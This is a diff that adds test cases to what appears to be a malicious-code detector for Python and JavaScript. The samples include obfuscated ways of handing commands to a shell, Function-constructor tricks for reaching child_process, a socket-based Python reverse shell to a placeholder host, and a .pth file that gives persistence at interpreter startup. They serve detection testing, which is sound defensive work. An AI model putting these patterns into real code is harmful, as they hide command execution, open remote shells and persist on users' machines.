@@ -272,3 +272,66 @@ def test_code_in_a_text_that_only_looks_up_a_name_hides_it() -> None:
     code = "[].constructor.constructor('return process')().exit()"
 
     assert Act.HIDE in {fact.act for fact in read_javascript(code)}
+
+
+@all_cases(
+    "code",
+    [
+        f"import subprocess\nsubprocess.run(['bash'], input='{COMMAND}'.encode())",
+        ("import subprocess as s\nps = s.Popen(['/bin/sh', '-s'], stdin=s.PIPE)\n"
+        f"ps.communicate(b'{COMMAND}')"),
+        f"import subprocess as s\nps = s.Popen('sh', stdin=s.PIPE)\nps.stdin.write('{COMMAND}')",
+        f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', '{COMMAND}'], os.environ)",
+        f"import os\nos.execle('/bin/sh', 'sh', '-c', '{COMMAND}', os.environ)",
+    ],
+)  # fmt: skip
+def test_a_command_that_python_gives_to_a_shell_process_is_run(code: str) -> None:
+    assert python_hosts(code) == {HOST}
+
+
+@all_cases(
+    "code",
+    [
+        f"new Function('r', 'r(\"child_process\").execSync(\"{COMMAND}\")')(require)",
+        ("const F = (() => {}).constructor\nconst run = F('return process')().mainModule.require\n"
+        f"run('child_process').execSync('{COMMAND}')"),
+        f"Function('return require')()('child_process').execSync('{COMMAND}')",
+        f"globalThis.require('child_process').execSync('{COMMAND}')",
+        f"globalThis.process.getBuiltinModule('child_process').execSync('{COMMAND}')",
+        f"import {{ $ }} from 'bun'\nawait $`sh -c ${{'{COMMAND}'}}`",
+        f"require('child_process').execFileSync('bash', {{input: '{COMMAND}'}})",
+        f"const ps = require('child_process').spawn('sh')\nps.stdin.end('{COMMAND}')",
+    ],
+)  # fmt: skip
+def test_a_command_that_javascript_runs_by_another_name_is_run(code: str) -> None:
+    assert javascript_hosts(code) == {HOST}
+
+
+def test_the_environment_of_a_new_process_is_not_sent_with_its_request() -> None:
+    code = f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'curl -s {URL}'], os.environ)"
+
+    assert {fact.act for fact in read_python(code)} == {Act.FETCH, Act.RUN}
+
+
+def test_a_python_shell_on_a_connection_is_a_reverse_shell() -> None:
+    code = (
+        "import code, socket\n"
+        f"f = socket.create_connection(('{HOST}', 4)).makefile('rw')\n"
+        "code.interact(readfunc=f.readline)\n"
+    )
+
+    assert Act.REVERSE_SHELL in {fact.act for fact in read_python(code)}
+
+
+@all_cases(
+    "folder",
+    ["site.getsitepackages()[0]", "site.getusersitepackages()", "sysconfig.get_path('purelib')"],
+)
+def test_a_file_that_python_runs_when_it_starts_is_persistence(folder: str) -> None:
+    code = (
+        f"import os, site, sysconfig\nopen(os.path.join({folder}, 'a.pth'), 'w').write('import a')"
+    )
+
+    found = [fact.detail for fact in read_python(code) if fact.act is Act.WRITE]
+
+    assert found == ["runs at start or on a timer"]
